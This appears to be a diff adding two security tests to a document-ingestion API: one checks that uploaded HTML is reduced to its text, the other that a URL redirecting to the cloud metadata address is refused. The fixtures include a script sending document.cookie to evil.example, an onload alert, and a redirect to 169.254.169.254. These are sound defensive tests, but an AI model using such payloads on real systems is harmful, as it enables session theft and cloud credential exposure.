@@ -1,3 +1,5 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestContext, type TestContext } from '../support/context.js';
 
@@ -85,6 +87,48 @@ describe('knowledge documents', () => {
       'Expense policy › Travel',
       'Expense policy › Meals',
     ]);
+  });
+
+  it('keeps an HTML page as its text only: its scripts never reach a passage, and its markup is not kept', async () => {
+    const { admin, workspaceId } = await workspaceOf();
+    const page = `<html><head><title>Returns</title><script>fetch('https://evil.example/?c='+document.cookie)</script></head>
+      <body onload="alert(1)"><h1>Returns</h1><p>Returns are accepted within <b>30 days</b>.</p><style>p{}</style></body></html>`;
+    const created = await t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, {
+      cookie: admin.cookie,
+      raw: upload('returns.html', page, 'text/html'),
+    });
+    const id = created.body.document.id as string;
+    expect(await readyDocument(admin.cookie, workspaceId, id)).toMatchObject({ status: 'ready', kind: 'html' });
+    const opened = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents/${id}/passages`, { cookie: admin.cookie });
+    const text = JSON.stringify(opened.body.passages);
+    expect(text).toContain('Returns are accepted within 30 days.');
+    expect(text).not.toMatch(/evil|cookie|alert|<|onload/);
+    expect(await t.deps.blobs.get(`knowledge/${admin.org.id}/${workspaceId}/${id}/source`)).toBeUndefined();
+  });
+
+  it('fetches a document by its URL, and fails one whose URL redirects to the metadata address, with the reason', async () => {
+    const { admin, workspaceId } = await workspaceOf();
+    const site: Server = createServer((request, response) => {
+      if (request.url === '/guide.md')
+        response.writeHead(200, { 'content-type': 'text/markdown' }).end('# Guide\n\nParcels leave the warehouse at noon.');
+      else response.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
+    });
+    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
+    const base = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
+    try {
+      const post = (url: string) =>
+        t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, { cookie: admin.cookie, body: { url } });
+      const fetched = await post(`${base}/guide.md`);
+      expect(fetched.status, fetched.text).toBe(202);
+      expect(await readyDocument(admin.cookie, workspaceId, fetched.body.document.id)).toMatchObject({ status: 'ready', kind: 'markdown' });
+      const redirected = await post(`${base}/moved`);
+      expect(redirected.status, redirected.text).toBe(202);
+      const failed = await readyDocument(admin.cookie, workspaceId, redirected.body.document.id);
+      expect(failed.status).toBe('failed');
+      expect(String(failed.error)).toMatch(/not allowed/);
+    } finally {
+      await new Promise((resolve) => site.close(resolve));
+    }
   });
 
   it('no longer finds a deleted document', async () => {
